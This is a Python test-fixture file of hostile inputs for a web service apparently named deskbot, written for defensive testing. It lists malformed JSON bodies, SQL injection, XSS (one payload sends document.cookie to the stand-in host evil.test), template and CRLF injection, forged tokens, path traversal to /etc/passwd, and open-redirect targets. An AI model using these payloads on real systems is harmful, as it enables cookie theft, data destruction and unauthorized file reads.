"""Hostile input: what attackers and broken clients send. tests/test_hostile.py runs every
entry against every public endpoint it fits."""

from __future__ import annotations

# Raw request bodies for endpoints that take JSON. None of them is a usable request.
BAD_BODIES: dict[str, bytes] = {
    "empty": b"",
    "not json": b"hello there",
    "truncated json": b'{"text": "how do I',
    "invalid utf-8": b'{"text": "\xff\xfe\xfd caf\xc3"}',
    "utf-16 with bom": '{"text": "hi"}'.encode("utf-16"),
    "nested arrays 100k deep": b"[" * 100_000 + b"]" * 100_000,
    "nested objects 50k deep": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "json array": b'[{"text": "hi"}]',
    "json string": b'"hi"',
    "json null": b"null",
    "number overflow": b'{"text": 1e999999, "update_id": 1e999999}',
    "huge integer": b'{"update_id": ' + b"9" * 5000 + b"}",
    "wrong types": b'{"text": ["a"], "client_message_id": {"$ne": 1}, "name": 7}',
    "duplicate keys": b'{"text": "a", "text": {"x": 1}}',
    "nul bytes": b'{"text": "\x00\x00"}',
    "escaped nul": b'{"text": "hi\\u0000", "name": "a\\u0000", "email": "a@b.c\\u0000"}',
    "lone surrogate": b'{"text": "\\ud800"}',
    "2 MB body": b'{"text": "' + b"a" * 2_000_000 + b'"}',
}

# Well-formed messages whose text is hostile; each must be stored and shown as plain text.
HOSTILE_TEXTS: dict[str, str] = {
    "sql injection": "'; DROP TABLE messages; --",
    "sql union": "1' UNION SELECT password_hash FROM agents --",
    "script tag": "<script>alert(document.cookie)</script>",
    "img onerror": '<img src=x onerror="fetch(`//evil.test/`+document.cookie)">',
    "javascript url": "[click](javascript:alert(1))",
    "template injection": "{{ config.items() }} ${7*7} {% raw %}",
    "path traversal": "../../../../etc/passwd",
    "control characters": "hi\x07\x08\x1b[31mred\x1b[0m\u202etxet\u200b",
    "crlf header injection": "hello\r\nSet-Cookie: deskbot_session=stolen\r\n\r\n",
    "format strings": "%s%s%s%n %x {0.__class__}",
    "emoji and cjk": "重置密码 🔥🔥 \U0001f9d1\u200d\U0001f4bb",
    "very long word": "x" * 3900,
}

# Presented credentials that are not ours.
FORGED_BEARERS: list[str] = [
    "",
    "Bearer",
    "Bearer ",
    "Basic YWRtaW46YWRtaW4=",
    "Bearer null",
    "Bearer eyJhbGciOiJub25lIn0.eyJ2IjoiYWRtaW4ifQ.",
    "Bearer " + "A" * 10_000,
    "Bearer ../../etc/passwd",
    "Bearer ' OR '1'='1",
]

# Paths that try to leave the directories deskbot serves from.
TRAVERSAL_PATHS: list[str] = [
    "/static/../../../../etc/passwd",
    "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%2f..%2f..%2fbot%2fsettings.py",
    "/static/%252e%252e%252fetc%252fpasswd",
    "/static/app.css%00.js",
    "/static/....//....//etc/passwd",
    "/static/..\\..\\..\\bot\\settings.py",
    "/webchat/widget.js/../../../etc/passwd",
    "/api/customers/..%2f..%2fetc%2fpasswd/export",
    "/api/intents/..%2f..%2fetc%2fpasswd",
    "/admin/../../etc/passwd",
]

# Where a sign-in may be sent on afterwards (next=); none of these may leave the site.
REDIRECT_TARGETS: list[str] = [
    "//evil.example/x",
    "https://evil.example/",
    "http:evil.example",
    "/\\evil.example",
    "/\t/evil.example/p",  # next=/%09/evil.example/p, decoded
    "/\n/evil.example/p",
    "/\r\n/evil.example",
    "\t//evil.example",
    "/\x00/evil.example",
    "/\x7f/evil.example",
    "javascript:alert(1)",
    "evil.example",
    " //evil.example",
]

# Passwords an admin might try to give a user named Ann Smith, ann.smith@acme.test.
WEAK_PASSWORDS: list[str] = [
    "aaaaaaaaaa",
    "password123",
    "qwertyuiop",
    "1234567890",
    "ann.smith@acme.test",
    "annsmith2024",
    "AnnSmith-acme",
    "x" * 500,
]

# X-Forwarded-For values a client sends to pose as someone else or dodge a limit.
FORGED_FORWARDED_FOR: list[str] = [
    "203.0.113.7",
    "127.0.0.1",
    "10.0.0.1, 203.0.113.8",
    "not an address",
    "::1",
    "",
]

# Cookie-authenticated endpoints: another site's page gets no CORS on any of them.
COOKIE_ENDPOINTS: list[str] = [
    "/api/intents",
    "/api/agents",
    "/api/audit",
    "/api/customers",
    "/api/customers/1/export",
    "/api/me",
    "/login",
    "/logout",
    "/console",
    "/admin/faqs",
]
